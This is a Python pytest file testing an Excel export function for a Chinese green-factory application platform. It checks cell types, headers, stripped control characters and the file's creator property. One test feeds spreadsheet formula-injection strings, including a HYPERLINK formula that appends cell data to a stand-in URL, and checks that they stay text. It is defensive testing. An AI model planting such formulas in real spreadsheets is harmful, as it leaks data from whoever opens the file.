from datetime import date
from decimal import Decimal
from io import BytesIO

import pytest
from openpyxl import load_workbook

from greenmfg.excel import write_table


def sheet_of(content: bytes):
    return load_workbook(BytesIO(content)).active


@pytest.mark.parametrize(
    "text", ['=HYPERLINK("http://x/?"&A1)', "+1", "-1", "@SUM(A1)", "＝1", "\t=1", "0012", "TRUE"]
)
def test_attack_078_text_stays_text(text):
    cell = sheet_of(write_table(title="汇总表", head=["单位名称"], rows=[[text]]))["A2"]

    assert cell.data_type == "s"
    assert cell.value == text


def test_numbers_and_dates_stay_what_they_are():
    given = [1, Decimal("92.50"), date(2025, 10, 27), None]
    row = sheet_of(write_table(title="汇总表", head=["序号", "得分", "日期", "备注"], rows=[given]))[2]

    assert [cell.data_type for cell in row] == ["n", "n", "d", "n"]
    number, points, day, nothing = (cell.value for cell in row)
    assert (number, points, day.date(), nothing) == (1, 92.5, date(2025, 10, 27), None)


def test_the_head_stands_above_and_the_title_on_the_tab():
    sheet = sheet_of(write_table(title="绿色工厂推荐名单", head=["序号", "单位名称"], rows=[[1, "𠮷田"]]))

    assert sheet.title == "绿色工厂推荐名单"
    assert [[cell.value for cell in row] for row in sheet.rows] == [["序号", "单位名称"], [1, "𠮷田"]]


def test_characters_no_workbook_takes_are_left_out():
    assert sheet_of(write_table(title="表", head=["x"], rows=[["甲\x00\x0b乙"]]))["A2"].value == "甲乙"


def test_attack_080_the_file_tells_the_platform_made_it():
    book = load_workbook(BytesIO(write_table(title="表", head=["x"], rows=[])))

    assert book.properties.creator == "绿色制造体系申报评价平台"
